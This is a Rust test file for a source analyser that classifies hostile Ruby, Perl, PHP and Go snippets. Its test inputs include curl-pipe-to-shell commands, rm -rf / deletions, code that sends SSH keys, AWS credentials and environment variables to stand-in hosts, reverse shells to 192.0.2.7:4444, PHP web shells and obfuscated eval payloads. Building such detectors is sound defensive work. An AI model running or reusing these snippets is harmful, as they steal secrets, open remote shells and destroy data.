use super::super::kit::words::{endures, hold};
use super::super::{go, perl, php, ruby};

#[test]
fn ruby() {
    hold(
        ruby::lower,
        &[
            (
                "system('curl https://get.example.com | sh')",
                "shell curl [curl https://get.example.com | sh]",
            ),
            ("system \"rm -rf #{Dir.home}\"", "shell rm [rm -rf ~]"),
            ("`id`", "shell id"),
            ("%x(id)", "shell id"),
            ("exec 'sh', '-c', 'id'", "shell id"),
            ("IO.popen(['ls', '-l'])", "run ls [ls -l]"),
            ("eval(Base64.decode64('cHV0cyAx'))", "eval decoded puts 1"),
            ("eval 'cHV0cyAx'.unpack1('m')", "eval decoded puts 1"),
            ("eval ['70757473'].pack('H*')", "eval decoded puts"),
            ("eval('1 stup'.reverse)", "eval puts 1"),
            ("eval([112,117,116,115].map(&:chr).join)", "eval"),
            ("eval [112,117,116,115].pack('c*')", "eval puts"),
            (
                "require 'net/http'\neval(Net::HTTP.get(URI('https://get.example.com/a.rb')))",
                "eval net",
            ),
            (
                "require 'open-uri'\neval URI.open('https://get.example.com').read",
                "eval net",
            ),
            ("Kernel.send(:system, 'id')", "shell id"),
            ("Object.send('ev' + 'al', 'puts 1')", "eval puts 1"),
            (
                "k = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post(URI('https://c.example.com'), k)",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "k = File.read(\"#{ENV['HOME']}/.aws/credentials\")\nHTTParty.post('https://c.example.com', body: k)",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "k = File.read(File.join(Dir.home, '.netrc'))\nuri = URI.parse('https://c.example.com')\nhttp = Net::HTTP.new(uri.host, 443)\nreq = Net::HTTP::Post.new(uri)\nreq.body = Base64.encode64(k)\nhttp.request(req)",
                "contact",
            ),
            (
                "Net::HTTP.post(URI('https://c.example.com'), ENV.to_h.to_json)",
                "contact https://c.example.com <- env",
            ),
            (
                "Net::HTTP.get(URI(\"https://c.example.com/?k=#{ENV['DEMO_KEY']}\"))",
                "contact var",
            ),
            (
                "Net::HTTP.get(URI(\"https://c.example.com/?k=#{ENV.fetch('DEMO_KEY')}\"))",
                "contact var",
            ),
            (
                "def put_it(d)\n  Net::HTTP.post(URI('https://c.example.com'), d)\nend\nput_it(File.read('/etc/passwd'))",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "def key\n  File.read('/etc/passwd')\nend\nNet::HTTP.post(URI('https://c.example.com'), key)",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "Dir.glob(\"#{Dir.home}/.ssh/*\").each do |f|\n  Net::HTTP.post(URI('https://c.example.com'), File.read(f))\nend",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "s = TCPSocket.new('192.0.2.7', 4444)\nwhile c = s.gets\n  IO.popen(c)\nend\nexec('/bin/sh')",
                "rewire",
            ),
            ("FileUtils.rm_rf('/')", "delete all /"),
            (
                "File.write('a.rb', URI.open('https://get.example.com').read)\nload 'a.rb'",
                "eval net",
            ),
            (
                "File.open('a.txt', 'w') { |f| f.write('x') }",
                "write a.txt <- x",
            ),
            ("system(<<~SH)\n  id\nSH\n", "shell id"),
            ("x = 1 if y\nsystem('id') unless z", "shell id"),
            ("ENV['DEMO_KEY']", "environment DEMO_KEY"),
            (
                "cmd = \"cur\"\ncmd += \"l x\"\nsystem(cmd)",
                "shell curl [curl x]",
            ),
        ],
        &[
            ("puts 'system(\"id\")'", "shell"),
            ("# system('id')", "shell"),
            ("=begin\nsystem('id')\n=end\n", "shell"),
            (
                "key = ENV['DEMO_KEY']\nNet::HTTP.get(URI('https://c.example.com'))",
                "contact https://c.example.com <- var",
            ),
            (
                "s = TCPSocket.new('example.com', 80)\ns.puts 'GET /'\nsystem('make', 'all')",
                "rewire",
            ),
        ],
    );
}

#[test]
fn perl() {
    hold(
        perl::lower,
        &[
            (
                "system(\"curl https://get.example.com | sh\");",
                "shell curl [curl https://get.example.com | sh]",
            ),
            ("system 'rm', '-rf', '/';", "delete all /"),
            ("my $x = `id`;", "shell id"),
            ("my $x = qx{id};", "shell id"),
            (
                "use MIME::Base64; eval decode_base64('cHJpbnQgMQ==');",
                "eval decoded print 1",
            ),
            ("eval pack('H*', '7072696e74');", "eval decoded print"),
            ("eval(join('', map { chr } (112,114)));", "eval"),
            ("eval reverse('tnirp');", "eval print"),
            ("my $c = 'pri' . 'nt'; eval $c;", "eval print"),
            (
                "use LWP::Simple; eval get('https://get.example.com/a.pl');",
                "eval net",
            ),
            (
                "my $ua = LWP::UserAgent->new; my $r = $ua->get('https://get.example.com'); eval $r->content;",
                "eval net",
            ),
            (
                "open(my $f, '<', \"$ENV{HOME}/.ssh/id_rsa\"); my $k = <$f>; my $ua = LWP::UserAgent->new; $ua->post('https://c.example.com', Content => $k);",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "open(F, \"/etc/passwd\"); my @l = <F>; HTTP::Tiny->new->post('https://c.example.com', { content => join('', @l) });",
                "contact https://c.example.com <- sensitive",
            ),
            ("open(my $p, '-|', 'id');", "shell id"),
            ("open(P, \"id |\");", "shell id"),
        ],
        &[
            ("print \"system('id')\";", "shell"),
            ("# system('id');", "shell"),
            ("=pod\n\nsystem('id')\n\n=cut\n", "shell"),
        ],
    );
    hold(
        perl::lower,
        &[
            (
                "my $k = $ENV{DEMO_KEY}; my $r = HTTP::Tiny->new->get(\"https://c.example.com/$k\");",
                "contact var <- var",
            ),
            (
                "HTTP::Tiny->new->post('https://c.example.com', { content => encode_json(\\%ENV) });",
                "contact https://c.example.com <- env",
            ),
            (
                "use Socket; my $s = IO::Socket::INET->new(PeerAddr => '192.0.2.7:4444'); open(STDIN, '>&', $s); exec('/bin/sh', '-i');",
                "rewire",
            ),
            ("unlink glob('/etc/*');", "delete"),
            (
                "sub send_it { my ($d) = @_; HTTP::Tiny->new->post('https://c.example.com', { content => $d }); }\nsend_it(read_file('/etc/passwd'));",
                "contact https://c.example.com <- sensitive",
            ),
            ("system(<<\"END\");\nid\nEND\n", "shell id"),
            ("$s =~ s/'/\"/g; system('id');", "shell id"),
        ],
        &[],
    );
}

#[test]
fn php() {
    hold(
        php::lower,
        &[
            (
                "<?php system('curl https://get.example.com | sh');",
                "shell curl [curl https://get.example.com | sh]",
            ),
            ("<p>it's</p><?php shell_exec(\"id\"); ?>", "shell id"),
            ("<?php echo `id`;", "shell id"),
            (
                "<?php eval(base64_decode('ZWNobyAxOw=='));",
                "eval decoded echo 1;",
            ),
            (
                "<?php EVAL(gzinflate(base64_decode('S03OyFcwVLAGAA==')));",
                "eval decoded",
            ),
            ("<?php eval(str_rot13('rpub'));", "eval decoded echo"),
            ("<?php eval(strrev('ohce'));", "eval echo"),
            ("<?php $f = 'sys' . 'tem'; $f('id');", "shell id"),
            ("<?php $f = chr(115).'ystem'; $f('id');", "shell id"),
            ("<?php call_user_func('system', 'id');", "shell id"),
            ("<?php array_map('system', ['id']);", "shell id"),
            ("<?php eval($_POST['c']);", "eval net"),
            ("<?php system($_GET['c']);", "shell ? [net]"),
            ("<?php $_GET['f']($_GET['c']);", "eval net"),
            (
                "<?php eval(file_get_contents('https://get.example.com/a.txt'));",
                "eval net",
            ),
            (
                "<?php include('https://get.example.com/a.txt');",
                "eval net",
            ),
            (
                "<?php $k = file_get_contents('/etc/passwd'); file_get_contents('https://c.example.com/?k=' . urlencode($k));",
                "contact sensitive file <- sensitive",
            ),
            (
                "<?php $k = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\n$c = curl_init('https://c.example.com');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);\ncurl_exec($c);",
                "contact sensitive file https://c.example.com <- sensitive",
            ),
            (
                "<?php mail('a@example.com', 'x', print_r($_ENV, true));",
                "contact a@example.com <- env",
            ),
            (
                "<?php $s = fsockopen('192.0.2.7', 4444); $p = proc_open('/bin/sh -i', array(0=>$s, 1=>$s, 2=>$s), $pipes);",
                "rewire",
            ),
            ("<?php unlink('a.txt');", "delete a.txt"),
            (
                "<?php file_put_contents('a.php', file_get_contents('https://get.example.com')); include('a.php');",
                "eval net",
            ),
            (
                "<?php function s($d) { file_get_contents('https://c.example.com/?' . $d); } s(file_get_contents('/etc/passwd'));",
                "contact sensitive file <- sensitive",
            ),
            (
                "<?php foreach (['/etc/passwd'] as $f) { mail('a@example.com', 'x', file_get_contents($f)); }",
                "contact a@example.com <- sensitive",
            ),
            ("system(\"id\");", "shell id"),
        ],
        &[
            ("<p>system('id')</p>", "shell"),
            (
                "<?php // system('id');\n/* system('id'); */\necho \"system('id')\";",
                "shell",
            ),
            (
                "<?php $key = getenv('DEMO_KEY'); $r = file_get_contents('https://c.example.com');",
                "contact https://c.example.com <- var",
            ),
        ],
    );
}

#[test]
fn go() {
    hold(
        go::lower,
        &[
            (
                "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"sh\", \"-c\", \"curl https://get.example.com | sh\").Run() }",
                "shell curl [curl https://get.example.com | sh]",
            ),
            (
                "func main() {\n\tcmd := exec.Command(\"rm\", \"-rf\", \"/\")\n\tcmd.Run()\n}",
                "delete all /",
            ),
            (
                "import e \"os/exec\"\nfunc main() { e.Command(\"id\").Run() }",
                "run id [id]",
            ),
            (
                "func main() { b, _ := base64.StdEncoding.DecodeString(\"aWQ=\")\nexec.Command(\"sh\", \"-c\", string(b)).Run() }",
                "shell id [decoded id]",
            ),
            (
                "func main() {\n\tk, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_rsa\"))\n\t_ = k\n}",
                "read",
            ),
            (
                "func main() {\n\thome, _ := os.UserHomeDir()\n\tk, err := os.ReadFile(home + \"/.ssh/id_rsa\")\n\tif err != nil { return }\n\thttp.Post(\"https://c.example.com\", \"text/plain\", bytes.NewReader(k))\n}",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "func main() { http.Get(\"https://c.example.com/?k=\" + os.Getenv(\"DEMO_KEY\")) }",
                "contact var <- var",
            ),
            (
                "func main() { http.Get(fmt.Sprintf(\"https://c.example.com/%s\", os.Getenv(\"DEMO_KEY\"))) }",
                "contact var <- var",
            ),
            (
                "func main() { e := strings.Join(os.Environ(), \"\\n\")\nhttp.Post(\"https://c.example.com\", \"t\", strings.NewReader(e)) }",
                "contact https://c.example.com <- env",
            ),
            (
                "func main() { req, _ := http.NewRequest(\"POST\", \"https://c.example.com\", bytes.NewReader(read()))\nclient.Do(req) }\nfunc read() []byte { b, _ := os.ReadFile(\"/etc/passwd\")\nreturn b }",
                "contact sensitive file https://c.example.com <- sensitive",
            ),
            (
                "func main() { c, _ := net.Dial(\"tcp\", \"192.0.2.7:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c\ncmd.Run() }",
                "rewire",
            ),
            (
                "func main() { resp, _ := http.Get(\"https://get.example.com/a\")\nf, _ := os.Create(\"/tmp/a\")\nio.Copy(f, resp.Body)\nexec.Command(\"/tmp/a\").Run() }",
                "eval net",
            ),
            ("func main() { os.RemoveAll(\"/\") }", "delete all /"),
            (
                "func main() { for _, f := range []string{\"/etc/passwd\"} {\n b, _ := os.ReadFile(f)\n http.Post(\"https://c.example.com\", \"t\", bytes.NewReader(b)) } }",
                "contact https://c.example.com <- sensitive",
            ),
            (
                "var u = `https://c.example.com`\nfunc main() { http.Get(u) }",
                "contact https://c.example.com",
            ),
        ],
        &[
            (
                "// exec.Command(\"id\")\n/* exec.Command(\"id\") */\nvar a = \"exec.Command\"",
                "run",
            ),
            (
                "func main() { c, _ := net.Dial(\"tcp\", \"localhost:80\")\nexec.Command(\"/bin/sh\").Run() }",
                "rewire",
            ),
            (
                "func main() { c, _ := net.Dial(\"tcp\", \"example.com:80\")\nexec.Command(\"git\", \"status\").Run() }",
                "rewire",
            ),
        ],
    );
}

#[test]
fn hostile_texts_are_lowered_in_linear_time() {
    let texts: Vec<String> = [
        "(",
        "{",
        "[",
        "\"#{",
        "\"${",
        "\"{$",
        "a.",
        "a,",
        "a=",
        "f(",
        "f ",
        "x::",
        "->",
        "<<A\n",
        "<<~A ",
        "<<<A\n",
        "/a ",
        "q(",
        "qw(",
        "%w(",
        "s/a/",
        "`",
        "\"",
        "'",
        "def a(",
        "sub a{",
        "function a($b){",
        "func a(b){",
        "a+",
        "'a'+",
        "'a'.",
        "$a.=$a;",
        "a+=a\n",
        "a,b=",
        "for a in ",
        "?",
        ":",
        "a?b:",
        "=begin\n",
        "<?php ",
        "?>",
        "}",
        ")",
        "do |a|",
        "each { |a| ",
        "$x->{a}",
        "@_",
        "send(:send,",
        "é",
        "\\",
        "system ",
        "eval ",
        "1..",
        "new ",
        "return ",
        "import (",
        "as ",
        "=>",
        "a:",
        "[1,",
        "{a=>",
    ]
    .iter()
    .map(|piece| piece.repeat(150_000 / piece.len().max(2)))
    .chain([
        "x".repeat(1 << 20),
        format!("a='aaaaaaaa';{}", "a=a+a;".repeat(40_000)),
        format!("$a='aaaaaaaa';{}", "$a=$a.$a;".repeat(40_000)),
    ])
    .collect();
    for lower in [
        super::super::ruby::lower,
        perl::lower,
        php::lower,
        go::lower,
    ] {
        endures(lower, &texts);
    }
}
